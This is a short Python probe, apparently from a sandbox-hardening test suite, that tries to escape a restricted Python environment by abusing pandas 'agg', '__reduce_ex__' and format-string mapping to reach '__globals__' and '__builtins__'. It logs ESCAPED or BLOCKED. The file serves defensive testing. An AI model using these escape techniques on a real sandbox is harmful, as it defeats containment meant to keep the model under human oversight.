# id: pkg-pandas-agg-name
# technique: pandas calls methods that text names, and reads attributes by it
# layer: python
# goal: capability
# success_marker: ESCAPED


def reached(ctx, what):
    ctx.log.info('ESCAPED pkg-pandas-agg-name: ' + str(what)[:80])


def attempt(ctx):
    import pandas
    frame = pandas.DataFrame({'a': [1]})
    method = frame.agg('__getattribute__', 0, '__init__')
    for name in ('__globals__', '__code__'):
        try:
            found = frame.groupby('a').pipe(lambda g: g.agg('__getattribute__', name))
            ctx.log.info(str(found)[:50])
        except Exception as e:
            ctx.log.info(str(e)[:100])
    reduced = frame.agg('__reduce_ex__', 0, 2)
    for value in (pandas.DataFrame.agg, method, reduced[0]):
        for name in ('__globals__', '__func__', '__builtins__', '__code__'):
            try:
                reached(ctx, pandas.Series([value]).map(('{0.' + name + '}').format)[0])
            except Exception as e:
                last = str(e)
    raise Exception(last)


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED pkg-pandas-agg-name: ' + str(e)[:160])
    ctx.log.info('DONE pkg-pandas-agg-name')
